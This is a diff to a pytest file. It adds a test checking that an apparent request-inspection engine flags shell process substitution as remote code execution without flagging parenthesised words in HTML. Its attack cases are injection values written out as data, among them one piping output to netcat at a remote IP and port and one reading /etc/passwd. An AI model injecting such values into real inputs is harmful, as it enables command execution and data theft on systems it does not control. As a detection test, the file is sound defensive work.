@@ -929,6 +929,28 @@ def test_script_on_one_line_or_in_markup_is_still_found(
 
 
 @pytest.mark.parametrize(
+    ("value", "attack"),
+    [
+        ('<p>See <a href="x.html">(gcc) Structures</a> for details.</p>', False),
+        ("<td>(curl)</td>", False),
+        ('<li><a href="/docs/tar">(tar) archives</a></li>', False),
+        ("tee >(nc 10.0.0.1 4444)", True),
+        ("echo >(id)", True),
+        ("<b>x</b> >(id)", True),  # the tag closed before: a substitution again
+        ("diff <(sort a) <(cat /etc/passwd)", True),
+    ],
+)
+def test_a_parenthesis_after_a_tag_is_the_element_s_text(
+    engine: Engine, value: str, attack: bool
+) -> None:
+    """In rich text, `>(` ends a tag and starts the element's text: `(curl)` is a word in
+    parentheses, not a process substitution."""
+    body = json.dumps({"text": value}).encode()
+    request = Request("POST", "/notes", (("Content-Type", "application/json"),), body)
+    assert ("rce" in _types(engine, request)) == attack
+
+
+@pytest.mark.parametrize(
     "value",
     [
         "```id\n```",  # a fence whose word is no language: a shell runs `id`
